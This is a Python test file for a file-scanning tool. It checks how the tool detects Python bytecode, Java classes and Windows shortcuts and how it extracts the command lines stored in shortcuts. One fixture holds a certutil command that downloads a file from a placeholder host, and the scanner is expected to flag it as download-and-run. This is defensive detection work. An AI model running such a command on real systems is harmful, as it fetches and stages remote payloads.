"""Bytecode, Java classes and shortcuts."""

from __future__ import annotations

import py_compile
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.builders import natives, scripts
from weighbridge.core.coverage import Gap
from weighbridge.core.errors import Malformed
from weighbridge.core.limits import Limits, Meter
from weighbridge.core.programs import CodeUnit, Command, SourceCall
from weighbridge.core.source import BytesSource
from weighbridge.formats import program_files
from weighbridge.formats.node import Bench, Node
from weighbridge.formats.sniff import sniff


def read(content: bytes) -> list[Any]:
    return list(program_files.extract(BytesSource(content), Node(name="x"), Bench(Limits(), Meter(Limits()))))


def test_real_bytecode_is_known(tmp_path: Path) -> None:
    (tmp_path / "a.py").write_text("x = 1\n")
    made = py_compile.compile(str(tmp_path / "a.py"), str(tmp_path / "a.pyc"))
    content = Path(str(made)).read_bytes()
    assert sniff(BytesSource(content), "weights.bin").formats == ("python bytecode",)
    assert {type(one) for one in read(content)} >= {CodeUnit, Gap}


@pytest.mark.parametrize(
    ("content", "kind"),
    [
        (scripts.bytecode(), "python bytecode"),
        (scripts.bytecode(3379, 12), "python bytecode"),
        (scripts.bytecode(62211, 8).replace(b"\xe3", b"c"), "python bytecode"),
        (scripts.shortcut(), "windows shortcut"),
        (natives.java_class(), "java class"),
        (scripts.bytecode(9000), ""),
        (scripts.bytecode().replace(b"\xe3", b"x"), ""),
        (b"", ""),
        (b"\xca\xfe\xba\xbe\0\0\0\x02" + bytes(20), ""),
    ],
)
def test_the_kind_by_the_header(content: bytes, kind: str) -> None:
    assert program_files.sniff(content, BytesSource(content)) == kind


def test_a_shortcut_tells_its_command_line() -> None:
    (command,) = [one for one in read(scripts.shortcut()) if isinstance(one, Command)]
    assert command.line == "powershell.exe -c echo INERT"
    (command,) = [one for one in read(scripts.shortcut(full=True)) if isinstance(one, Command)]
    assert command.line == "powershell.exe -c echo INERT"
    fetching = read(scripts.shortcut("cmd.exe", "/c certutil -urlcache -f http://inert.invalid/a a"))
    assert [one.name for one in fetching if isinstance(one, SourceCall)] == ["download_and_run"]


@given(st.integers(0, 150))
def test_a_shortcut_that_breaks_off_is_malformed(length: int) -> None:
    content = scripts.shortcut()[:length]
    if program_files.sniff(content, BytesSource(content)):
        try:
            read(content)
        except Malformed:
            return
